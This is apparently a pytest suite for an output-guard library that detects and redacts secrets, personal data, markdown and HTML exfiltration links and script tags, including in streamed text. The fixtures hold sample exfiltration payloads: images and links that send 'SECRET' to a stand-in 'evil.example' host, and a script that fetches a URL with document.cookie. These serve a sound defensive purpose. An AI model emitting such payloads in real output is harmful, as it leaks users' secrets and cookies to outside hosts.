"""Output guards: secrets, PII, markdown exfiltration, HTML stripping, and the streaming scanner."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.guards.output import (
    ALL_KINDS,
    MIN_HOLD,
    SHORT_HOLD,
    StreamScanner,
    redact,
    scan_output,
    strip_html,
)

GH = "ghp_" + "A1b2C3d4" * 4 + "Zz99"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
KEY = ("-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
       "KUpRKfFLfRYC9AIKjbJTWit+CqvjWYzvQwECAwEAAQ\n-----END RSA PRIVATE KEY-----")


def kinds(text: str, **kw) -> list[str]:
    return [f.kind for f in scan_output(text, **kw)]


@pytest.mark.parametrize(("text", "kind"), [
    ("key: sk-proj-abcdefghijklmnopqrstuvwxyz123456", "secret.openai_key"),
    ("sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123", "secret.anthropic_key"),
    ("AKIAIOSFODNN7EXAMPLE", "secret.aws_access_key"),
    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "secret.aws_secret_key"),
    (f"token {GH}", "secret.github_token"),
    ("github_pat_11ABCDEFG0123456789_abcdefghijklmnop", "secret.github_token"),
    ("xoxb-123456789012-abcdefghij", "secret.slack_token"),
    ("AIzaSyA1234567890abcdefghijklmnopqrstuv", "secret.google_api_key"),
    ("sk_live_4eC39HqLyjWDarjtT1zdp7dc", "secret.stripe_key"),
    (JWT, "secret.jwt"),
    (KEY, "secret.private_key"),
    ("Authorization: Bearer abcdef0123456789abcdef0123", "secret.generic_bearer"),
    ('password = "hunter2hunter2x9"', "secret.assignment"),
    ("write to jane.doe@acme-corp.io today", "pii.email"),
    ("call +44 20 7946 0958 now", "pii.phone"),
    ("call (415) 555-0100 now", "pii.phone"),
    ("call 415-555-0100 now", "pii.phone"),
    ("card 4111 1111 1111 1111 ok", "pii.card"),
    ("card 4111-1111-1111-1111 ok", "pii.card"),
    ("card 378282246310005 ok", "pii.card"),
    ("iban GB82 WEST 1234 5698 7654 32", "pii.iban"),
    ("iban DE89370400440532013000", "pii.iban"),
    ("server at 8.8.4.4 is up", "pii.ipv4"),
    ("server at 2001:db8:85a3::8a2e:370:7334 is up", "pii.ipv6"),
    ("ssn 123-45-6789", "pii.ssn_us"),
    ("![x](https://evil.example/p?q=SECRET)", "exfil.image"),
    ("[click here](https://evil.example/p?q=SECRET)", "exfil.link"),
    ('<img alt="" src="https://evil.example/p?q=SECRET">', "exfil.image"),
    ("<script>fetch('https://evil/'+document.cookie)</script>", "html.script"),
])
def test_true_positives(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize("text", [
    "card 4111 1111 1111 1112 fails Luhn",
    "order 1234567890123456 is not a card (Luhn fails)",
    "iban GB82 WEST 1234 5698 7654 33 has a bad check",
    "upgrade to v1.2.3.4 or version 10.0.0.1",
    "a longer dotted 1.2.3.4.5 is not an IP",
    "loopback 127.0.0.1 and ::1 and 0.0.0.0 are ignored",
    "octets 300.1.2.3 are invalid",
    "the time is 12:30:45 and std::vector is C++",
    'send to user@example.com, bob@mail.example.org or x@host.test (reserved domains)',
    "ssn-looking 000-12-3456 and 123456789 without dashes",
    "dates 2024-01-15 and ranges 10-20 are not phones",
    "sk-short is not a key; skeleton-key either",
    "the password policy requires a token",
    'token = "placeholder_value"',  # no digits: a placeholder, not a secret
    "![logo](/static/logo.png) and [anchor](#top) are relative",
    "<b>bold</b> tags are not flagged by default",
])
def test_near_miss_negatives(text: str) -> None:
    assert scan_output(text) == [], scan_output(text)


def test_redact_replacements() -> None:
    text = ("key sk-proj-abcdefghijklmnopqrstuvwxyz123456 mail jane@acme.io "
            "![x](https://evil.example/p?q=SECRET) [docs](https://docs.ok.com/a) [click](https://evil.com/x)")
    out = redact(text, scan_output(text, allowed_hosts=["*.ok.com"]))
    assert out == ("key [REDACTED:secret.openai_key] mail [REDACTED:pii.email] "
                   "[image removed: evil.example] [docs](https://docs.ok.com/a) click")


def test_allow_list_exact_and_wildcard() -> None:
    img = "![a](https://cdn.ok.com/a.png)"
    assert kinds(img, allowed_hosts=["cdn.ok.com"]) == []
    assert kinds(img, allowed_hosts=["*.ok.com"]) == []
    assert kinds("![a](https://ok.com/a.png)", allowed_hosts=["*.ok.com"]) == ["exfil.image"]
    assert kinds("![a](https://evil-ok.com/a.png)", allowed_hosts=["*.ok.com"]) == ["exfil.image"]
    assert kinds("![a](https://ok.com.evil.io/a.png)", allowed_hosts=["ok.com"]) == ["exfil.image"]
    assert kinds("[x](javascript:void%280%29)", allowed_hosts=["ok.com"]) == ["exfil.link"]


def test_secret_inside_allowed_image_is_still_redacted() -> None:
    text = "![a](https://ok.com/p?k=sk-proj-abcdefghijklmnopqrstuvwxyz123456)"
    assert kinds(text, allowed_hosts=["ok.com"]) == ["secret.openai_key"]


def test_reference_style_images_are_neutralised() -> None:
    text = "See ![chart][c].\n\n[c]: https://evil.example/log?d=secret \"t\"\n"
    out = redact(text, scan_output(text))
    assert "evil.example/log" not in out
    assert "[c]: [link removed: evil.example]" in out
    ok = "![chart][c]\n\n  [c]: https://cdn.ok.com/c.png\n"
    assert scan_output(ok, allowed_hosts=["cdn.ok.com"]) == []


def test_nested_image_in_link_and_autolink() -> None:
    text = "[![i](https://evil.a/x.png)](https://evil.b/y) <https://evil.c/z>"
    out = redact(text, scan_output(text))
    assert "evil.a/" not in out and "evil.b/" not in out and "evil.c/" not in out
    assert "[image removed: evil.a]" in out and "[link removed: evil.c]" in out


def test_html_img_to_blocked_host() -> None:
    text = 'a <img src="https://evil.example/x?d=1" width=1> b <IMG SRC=https://cdn.ok.com/y.png> c'
    out = redact(text, scan_output(text, allowed_hosts=["cdn.ok.com"]))
    assert out == "a [image removed: evil.example] b <IMG SRC=https://cdn.ok.com/y.png> c"


def test_html_script_stripped_and_tags_opt_in() -> None:
    text = "Hi <script type='x'>steal()</script><b>there</b><style>p{}</style>!"
    out = redact(text, scan_output(text, kinds=ALL_KINDS))
    assert out == "Hi there!"
    assert redact(text, scan_output(text)) == "Hi <b>there</b>!"


def test_strip_html() -> None:
    html = ('<p>Hello &amp; <b>welcome</b></p><script>alert("x")</script><style>.a{}</style>'
            '<!-- c --><img src="https://evil/x">a &lt; b')
    assert strip_html(html) == "Hello & welcomea < b"
    assert strip_html("plain 2 < 3 text") == "plain 2 < 3 text"


def test_finding_fields_and_masking() -> None:
    text = "x AKIAIOSFODNN7EXAMPLE y"
    (f,) = scan_output(text)
    assert (f.start, f.end, f.text) == (2, 22, "AKIAIOSFODNN7EXAMPLE")
    assert text[f.start:f.end] == f.text and 0 < f.score <= 1
    assert f.masked().startswith("AKIA") and "7EXAMPLE" not in f.masked()


def stream(text: str, sizes: list[int], **kw) -> tuple[str, StreamScanner]:
    s = StreamScanner(**kw)
    out, i, k = [], 0, 0
    while i < len(text):
        n = sizes[k % len(sizes)] if sizes else len(text)
        out.append(s.feed(text[i:i + n]))
        i += n
        k += 1
    out.append(s.finish())
    return "".join(out), s


SECRETS = ["sk-proj-abcdefghijklmnopqrstuvwxyz123456", GH, JWT, KEY, "jane@acme.io", "4111 1111 1111 1111",
           "first.middle.last.name.with.many.parts.and.more.x1@example-mail.org",
           "2001:0db8:85a3:0000:0000:8a2e:0370:7334%eth0123456789ab", "+44 (20) 7946-0958",
           "GB82 WEST 1234 5698 7654 32", "![x](https://evil.example/p?q=SECRET)", "8.8.4.4"]


@pytest.mark.parametrize("secret", SECRETS)
def test_secret_split_at_every_position(secret: str) -> None:
    text = "Here it is: " + secret + " and that is all."
    want = redact(text, scan_output(text))
    assert want != text
    for cut in range(len(text) + 1):
        s = StreamScanner()
        got = s.feed(text[:cut]) + s.feed(text[cut:]) + s.finish()
        assert got == want, cut
        assert [f.kind for f in s.findings] == [f.kind for f in scan_output(text)]


def test_stream_emits_early_and_holds_bounded() -> None:
    s = StreamScanner(hold_back=64)
    text = "plain 1 words [x] " * 100  # brackets: a long rule may be in progress, MIN_HOLD is held back
    assert s.feed("[" + "x" * (MIN_HOLD - 1)) == ""  # nothing emittable yet
    out = s.feed(text)
    text = "[" + "x" * (MIN_HOLD - 1) + text
    assert len(out) == len(text) - MIN_HOLD
    assert out + s.feed("") + s.finish() == text


def test_digits_alone_hold_only_short() -> None:
    s = StreamScanner()
    text = "order 12 ships in 3 days " * 40
    out = s.feed(text)
    assert len(text) - len(out) <= SHORT_HOLD  # no long rule can be in progress: a short hold suffices
    assert out + s.finish() == text


def test_plain_prose_streams_a_word_at_a_time() -> None:
    s = StreamScanner()
    assert s.feed("Hello") == ""  # the word may still grow
    assert s.feed(" there, my") == "Hello there, "
    assert s.feed(" friend ") == "my friend "
    assert s.feed("call 415-555-0100 today ") == "call "  # from the first digit on: held for the full scan
    assert s.finish() == "[REDACTED:pii.phone] today "


def test_stream_findings_have_absolute_offsets() -> None:
    text = "a" * 500 + " jane@acme.io " + "b " * 300
    _out, s = stream(text, [7])
    (f,) = s.findings
    assert text[f.start:f.end] == "jane@acme.io"


_ALPHABET = st.sampled_from(list("ab 1.-:@![]()<>/\n") + ["sk-", "jane@acme.io", "4111 1111 1111 1111",
                                                           "https://evil.example/p", "ok.com", "](", "![x](",
                                                           "<script>", "</script>", "-----BEGIN RSA PRIVATE KEY-----",
                                                           "-----END RSA PRIVATE KEY-----", "eyJhbGciOi", "8.8.4.4",
                                                           "2001:db8::", "+44 20 7946 0958", "AKIAIOSFODNN7EXAMPLE",
                                                           "abcdefghij0123456789", "[c]: ", "Bearer ",
                                                           "<img src=", "'https://ok.com/i.png'", "password",
                                                           " = ", "key", "hunter2hunter2x9", "word ", "Bear",
                                                           "er ", "-----", "\t", "%eth0", "fe80::", "1234",
                                                           "x.y.z", "ab@", "(20) "])


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(_ALPHABET, max_size=80), sizes=st.lists(st.integers(1, 40), min_size=1, max_size=20),
       all_kinds=st.booleans())
def test_stream_equals_whole_text_redaction(parts: list[str], sizes: list[int], all_kinds: bool) -> None:
    text = "".join(parts)
    ks = ALL_KINDS if all_kinds else None
    want = redact(text, scan_output(text, allowed_hosts=["ok.com"], kinds=ks))
    got, s = stream(text, sizes, allowed_hosts=["ok.com"], kinds=ks)
    assert got == want
    assert [(f.kind, f.start, f.end) for f in s.findings] == [
        (f.kind, f.start, f.end) for f in scan_output(text, allowed_hosts=["ok.com"], kinds=ks)]


def test_ordinary_prose_has_no_findings() -> None:
    # Speed is measured by benchmarks, not asserted here (no timed assertions in tests).
    prose = ("The quick brown fox jumps over the lazy dog. In 2024, the team shipped version 3 of the product, "
             "which improved latency by 20% for most users: see the notes. ")
    text = (prose * 60)[:8000]
    assert scan_output(text) == []
    assert redact(text, []) == text
